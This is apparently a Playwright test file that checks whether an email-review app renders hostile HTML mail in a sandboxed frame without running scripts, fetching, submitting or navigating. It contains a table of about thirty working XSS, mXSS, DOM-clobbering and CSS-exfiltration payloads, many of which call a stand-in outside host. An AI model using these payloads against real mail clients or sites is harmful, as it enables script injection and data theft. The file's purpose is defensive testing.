import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, expect, it } from 'vitest';
import { openBrowser } from '../support/browser.ts';
import { startFakeGate } from './fake-api.ts';
import { type FakeMail, MAILS } from './fake-fixtures.ts';

/** Somebody else's host, which tells what reaches it. */
const reached: string[] = [];
const elsewhere = createServer((req, res) => {
  reached.push(req.url ?? '');
  res.end();
});
await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
afterAll(() => elsewhere.close());
const OUT = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;

/** Ways to run, send, load or lead away. `window.hit` and the address tell whether one worked. */
const PAYLOADS: Record<string, string> = {
  script: `<script>parent.hit=1;fetch('${OUT}script')</script>`,
  'script in svg': `<svg><script>parent.hit=1</script></svg>`,
  onerror: `<img src=x onerror="parent.hit=1;fetch('${OUT}onerror')">`,
  onload: `<body onload="parent.hit=1"><svg onload="parent.hit=1">`,
  'on every event': `<div onmouseover="parent.hit=1" onfocus="parent.hit=1" tabindex=0 autofocus>x</div><details open ontoggle="parent.hit=1"><summary>x</summary></details>`,
  'marquee and video': `<marquee onstart="parent.hit=1">x</marquee><video src=x onerror="parent.hit=1"></video><audio src=x onerror="parent.hit=1"></audio>`,
  form: `<form id=f action="${OUT}form"><input name=q value=secret><button id=b>Send</button></form>`,
  'form attributes': `<button form=f formaction="${OUT}formaction">x</button><input type=image src="${OUT}image">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${OUT}refresh">`,
  base: `<base href="${OUT}"><a href="login">Sign in</a><img src="base.png">`,
  iframe: `<iframe src="${OUT}iframe"></iframe><iframe srcdoc="<script>parent.parent.hit=1</script>"></iframe><frame src="${OUT}frame">`,
  'object and embed': `<object data="${OUT}object"></object><embed src="${OUT}embed"><applet code=x></applet>`,
  link: `<link rel=stylesheet href="${OUT}link.css"><link rel=prefetch href="${OUT}prefetch"><link rel=dns-prefetch href="//track.example">`,
  'css url': `<div style="background:url(${OUT}css-attr)">x</div><style>p{background:url('${OUT}css-sheet')} p{list-style:url("${OUT}css-list")}</style>`,
  'css escape': `<style>p{background:u\\72l(${OUT}css-escape)} p::before{content:ur\\6c("${OUT}css-escape2")}</style>`,
  'css import': `<style>@import "${OUT}import.css"; @import url(${OUT}import2.css); @im\\70ort "${OUT}import3.css";</style>`,
  'css font': `<style>@font-face{font-family:x;src:url(${OUT}font)} p{font-family:x}</style>`,
  'image set': `<style>p{background:image-set("${OUT}set" 1x)}</style><img srcset="${OUT}srcset 1x"><picture><source srcset="${OUT}source"><img src="${OUT}pic"></picture>`,
  'javascript link': `<a id=j href="javascript:parent.hit=1">click</a><a href=" java\tscript:parent.hit=1">click</a><a href="data:text/html,<script>parent.hit=1</script>" target=_top>click</a>`,
  'plain link': `<a id=l href="${OUT}link" target="_blank" ping="${OUT}ping">click</a><map name=m><area href="${OUT}area" shape=default></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hit=1&gt;">`,
  mxss: `<noscript><p title="</noscript><img src=x onerror=parent.hit=1>"></noscript><svg></p><style><a id="</style><img src=1 onerror=parent.hit=1>">`,
  'mxss form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.hit=1></style></mglyph></form>`,
  template: `<template><img src=x onerror=parent.hit=1></template><div is="x-y"><template shadowrootmode=open><script>parent.hit=1</script></template></div>`,
  clobbering: `<img name=body><img name=head><form name=documentElement></form><a id=defaultView></a><img name=createElement><img name=createTextNode><a id=querySelectorAll>`,
  svg: `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='parent.hit=1'/></svg>#x"/><animate attributeName=href to=javascript:parent.hit=1><foreignObject><iframe src="${OUT}svg"></iframe></foreignObject><image href="${OUT}svgimage"/></svg>`,
  'background attribute': `<table background="${OUT}table"><tr><td background="${OUT}td">x</td></tr></table><body background="${OUT}body">`,
  'very high': `<div style="height:100vh;position:fixed;inset:0">over</div><style>html,body{height:200%}</style>`,
  comment: `<!--[if gte mso 9]><script>parent.hit=1</script><![endif]--><!--><img src=x onerror=parent.hit=1>-->`,
  'nested tags': `<scr<script>ipt>parent.hit=1</scr</script>ipt><<img src=x onerror=parent.hit=1>`,
};

/** A request that is let through comes after those that were made before it. */
async function quiet(page: Page): Promise<void> {
  const before = reached.length;
  await page.context().request.get(`${OUT}last`);
  await expect.poll(() => reached.length).toBeGreaterThan(before);
  reached.splice(reached.indexOf('/last'), 1);
}

it('shows hostile mail without it running, fetching, sending or leading anywhere', async () => {
  const names = Object.keys(PAYLOADS);
  const mails: FakeMail[] = names.map((name, index) => ({
    ...MAILS[2],
    id: `x${String(index).padStart(2, '0')}`,
    subject: name,
    body: 'Words of the draft that stay.',
    findings: [],
    html: `<p>Words of the draft that stay.</p>${PAYLOADS[name]}`,
    heldHoursAgo: 40 - index,
  }));
  const gate = await startFakeGate({ mails });
  const context = await openBrowser();
  const page = context.pages()[0] ?? (await context.newPage());
  page.setDefaultTimeout(8_000);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));

  await page.goto(`${gate.base}/app/deliveries/${mails[0].id}`);
  for (const [index, mail] of mails.entries()) {
    if (index > 0) await page.keyboard.press('j');
    await page.getByRole('heading', { name: mail.subject, exact: true }).waitFor();
    await page.locator(`iframe.mail-frame[data-shown="${mail.id}"]`).waitFor();
    const frame = page.frameLocator('iframe.mail-frame');
    await frame.getByText('Words of the draft that stay.').waitFor();
    // What is left of it is clicked, all over.
    await page.evaluate(() => {
      const inside = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')?.contentDocument;
      for (const element of inside?.querySelectorAll<HTMLElement>(
        'a, button, summary, area, [tabindex], div',
      ) ?? []) {
        element.click();
        element.focus();
        element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      }
      for (const form of inside?.querySelectorAll('form') ?? []) form.submit();
    });
    expect(await page.evaluate(() => (globalThis as { hit?: number }).hit), mail.subject).toBeUndefined();
    expect(new URL(page.url()).pathname, mail.subject).toBe(`/app/deliveries/${mail.id}`);
    const remains = await page.evaluate(() => {
      const inside = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')?.contentDocument;
      const all = [...(inside?.querySelectorAll('body *') ?? [])];
      return {
        address: inside?.location.pathname,
        tags: [...new Set(all.map(({ localName }) => localName))].filter((tag) =>
          [
            'script',
            'form',
            'input',
            'button',
            'iframe',
            'object',
            'embed',
            'link',
            'meta',
            'base',
            'svg',
            'math',
            'area',
            'template',
            'video',
            'audio',
          ].includes(tag),
        ),
        attributes: all.flatMap((element) =>
          element
            .getAttributeNames()
            .filter((name) => /^on|^(href|target|action|formaction|ping|srcset|name)$/u.test(name)),
        ),
      };
    });
    expect(remains, mail.subject).toEqual({ address: '/app/mail-frame', tags: [], attributes: [] });
    const height = await page.locator('iframe.mail-frame').evaluate((element) => element.clientHeight);
    expect(height, mail.subject).toBeLessThanOrEqual(30_000);
  }
  await quiet(page);
  expect(reached).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(errors).toEqual([]);
  expect(context.pages()).toHaveLength(1);
}, 120_000);

it('keeps a frame that is handed the raw mail from running or fetching it, by its sandbox and policy alone', async () => {
  const gate = await startFakeGate();
  const context = await openBrowser();
  const page = context.pages()[0] ?? (await context.newPage());
  await page.goto(`${gate.base}/app/deliveries/d01`);
  await page.locator('iframe.mail-frame[data-shown=d01]').waitFor();
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    // No remote document is allowed in the frame; what asks for one ends as an error page, so these are tried elsewhere.
    if (['meta refresh', 'plain link', 'javascript link', 'form', 'form attributes'].includes(name)) continue;
    await page.evaluate((html) => {
      const inside = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')?.contentDocument;
      if (inside) inside.body.innerHTML = html;
    }, payload);
    await page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    );
    expect(await page.evaluate(() => (globalThis as { hit?: number }).hit), name).toBeUndefined();
  }
  await quiet(page);
  expect(reached).toEqual([]);
});
